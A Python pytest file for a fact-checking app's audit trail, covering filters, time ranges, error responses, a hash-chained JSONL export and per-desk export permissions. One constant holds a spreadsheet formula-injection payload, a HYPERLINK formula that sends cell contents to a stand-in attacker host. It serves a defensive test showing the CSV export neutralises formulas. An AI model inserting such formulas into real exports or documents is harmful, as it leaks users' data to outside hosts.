"""The trail narrowed down, and taken away as a file."""

import csv
import hashlib
import io
import json
from datetime import datetime, timedelta
from typing import Any

import httpx
import pytest

from claimdesk.accounts.rules import SYSTEM, Actor, Role
from claimdesk.audit import service as audit
from claimdesk.audit import views
from claimdesk.audit.rules import CHAINED
from claimdesk.audit.schemas import AuditFilter
from claimdesk.audit.views import check
from claimdesk.db.engine import fetch, transaction
from tests.api.conftest import ARTICLE, Caller, SignIn
from tests.api.test_bad_input import is_problem

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
async def story(checker: Caller, editor: Caller) -> dict[str, Any]:
    """Two articles; a claim of the second was dismissed with a formula for a reason, and restored."""
    await editor.post("/articles", {"text": ARTICLE})
    article = (await checker.post("/articles", {"text": ARTICLE})).json()
    claim = article["claims"][0]["id"]
    path = f"/claims/{claim}"
    assert (await checker.post(f"{path}/dismissal", {"reason": FORMULA})).status_code == 200
    assert (await editor.post(f"{path}/restoration")).status_code == 200
    return {"article": article["id"], "claim": claim, "vera": checker.id, "edith": editor.id}


async def listed(caller: Caller, **wanted: Any) -> list[str]:
    page = (await caller.get("/audit", **wanted)).json()
    return [f"{event['action']} {event['entity']}" for event in page["items"]]


async def test_each_filter_narrows_the_trail(checker: Caller, story: dict[str, Any]) -> None:
    everything = (await checker.get("/audit")).json()["items"]
    assert len(everything) == 6
    fields = {
        "person": story["vera"],
        "action": "restore",
        "entity": "article",
        "entity_id": story["claim"],
        "article": story["article"],
        "claim": story["claim"],
    }
    for name, value in fields.items():
        wanted = [event["id"] for event in everything if event[name] == value]
        found = (await checker.get("/audit", **{name: value})).json()["items"]
        assert [event["id"] for event in found] == wanted, name
        assert 0 < len(wanted) < 6, name
    assert await listed(checker, entity="claim", person=story["edith"]) == ["restore claim"]
    assert await listed(checker, entity="claim", person=story["edith"], action="accept") == []


async def test_a_time_is_from_a_moment_to_before_another(
    checker: Caller, story: dict[str, Any]
) -> None:
    everything = (await checker.get("/audit")).json()["items"]
    moments = sorted(event["at"] for event in everything)
    assert len(await listed(checker, **{"from": moments[2]})) == 4
    assert len(await listed(checker, to=moments[2])) == 2
    assert len(await listed(checker, **{"from": moments[1], "to": moments[4]})) == 3
    elsewhere = datetime.fromisoformat(moments[2]).astimezone().isoformat()
    assert len(await listed(checker, **{"from": elsewhere})) == 4


@pytest.mark.parametrize("path", ["/audit", "/audit/export"])
@pytest.mark.parametrize(
    ("params", "status", "says"),
    [
        ({"from": "2030-01-31T00:00:00"}, 422, "zone"),
        ({"to": "2030-01-31"}, 400, "RFC3339"),
        ({"from": "0001-01-01T00:00:00+14:00"}, 422, "years 1 to 9999"),
        ({"from": "2030-01-31T00:00:00Z", "to": "2030-01-31T01:00:00+01:00"}, 422, "before"),
        ({"person": 0}, 400, "person"),
        ({"person": 2**31}, 400, "person"),
        ({"claim": 2**60}, 400, "claim"),
        ({"action": "x" * 41}, 400, "action"),
        ({"action": "a\0b"}, 422, "NUL"),
        ({"desk": 424242}, 404, "desk"),
    ],
)
async def test_odd_filters_get_a_problem(
    editor: Caller, path: str, params: dict[str, Any], status: int, says: str
) -> None:
    before = (await fetch("SELECT number FROM audit_head"))[0]
    assert says in is_problem(await editor.get(path, **params), status)
    assert (await fetch("SELECT number FROM audit_head"))[0] == before


def _verified(lines: list[dict[str, Any]]) -> bool:
    """As somebody without claimdesk would, from what the documentation says."""
    for line in lines:
        fields = {k: v for k, v in line.items() if k not in ("previous", "hash")}
        body = json.dumps(fields, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
        if hashlib.sha256(f"{line['previous']}\n{body}".encode()).hexdigest() != line["hash"]:
            return False
    return True


def _lines(answer: httpx.Response) -> list[dict[str, Any]]:
    return [json.loads(line) for line in answer.text.splitlines()]


async def test_an_export_can_be_verified_line_by_line(
    editor: Caller, story: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(views, "CHUNK", 4)
    answer = await editor.get("/audit/export")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("application/jsonl")
    assert ".jsonl" in answer.headers["content-disposition"]
    assert answer.headers["cache-control"] == "no-store"
    lines = _lines(answer)
    assert [line["number"] for line in lines] == [1, 2, 3, 4, 5, 6]
    assert set(lines[0]) == {*CHAINED, "previous", "hash"}
    assert _verified(lines)
    assert not _verified([{**lines[2], "actor": "Eve"}])
    assert [line["hash"] for line in lines[:-1]] == [line["previous"] for line in lines[1:]]
    # It is itself an event, and the trail stays whole.
    assert (await listed(editor))[0] == "export audit"
    assert not (await check()).flaws
    assert len(_lines(await editor.get("/audit/export", claim=story["claim"]))) == 2
    latest = (await editor.get("/audit")).json()["items"][0]
    assert latest["after"] == {"claim": story["claim"]}


@pytest.mark.parametrize("how", ["the parameter", "the header"])
async def test_csv_holds_no_formula(editor: Caller, story: dict[str, Any], how: str) -> None:
    if how == "the parameter":
        answer = await editor.get("/audit/export", format="csv")
    else:
        answer = await editor.http.get("/api/v1/audit/export", headers={"Accept": "text/csv"})
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert len(rows) == 6
    dismissal = next(row for row in rows if row["action"] == "dismiss")
    assert dismissal["reason"] == "'" + FORMULA
    assert json.loads(dismissal["after"])["state"] == "dismissed"
    assert dismissal["hash"]
    assert datetime.fromisoformat(dismissal["at"]).utcoffset() == timedelta(0)
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t"))]


async def test_editors_export_their_own_desk_only(
    checker: Caller, editor: Caller, sign_in: SignIn, story: dict[str, Any]
) -> None:
    is_problem(await checker.get("/audit/export"), 403)
    stranger = await sign_in("stan", Role.ADMIN, desk="elsewhere")
    assert [line["entity"] for line in _lines(await stranger.get("/audit/export"))] == ["person"]
    is_problem(await stranger.get("/audit/export", desk=1), 404)
    assert {line["desk"] for line in _lines(await editor.get("/audit/export", desk=1))} == {1}
    # A checker here who is an editor there exports from there only.
    there = (await fetch("SELECT id FROM desk WHERE slug = 'elsewhere'"))[0]["id"]
    await fetch(
        "INSERT INTO membership (person, desk, role) VALUES ({}, {}, 'editor')", checker.id, there
    )
    assert {line["desk"] for line in _lines(await checker.get("/audit/export"))} == {there}
    is_problem(await checker.get("/audit/export", desk=1), 403)


async def test_an_export_ends_though_others_go_on_writing(
    editor: Caller, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(views, "CHUNK", 10)
    await _write_things(40)
    actor = Actor(name="Edith", person_id=editor.id, roles={1: Role.EDITOR})
    got = []
    async for events in await views.export(actor, AuditFilter(entity="thing")):
        got += [event.entity_id for event in events]
        await _write_things(20)
    assert got == list(range(40))


async def _write_things(how_many: int) -> None:
    async with transaction():
        for number in range(how_many):
            audit.record(SYSTEM, "try", "thing", number, desk=1)
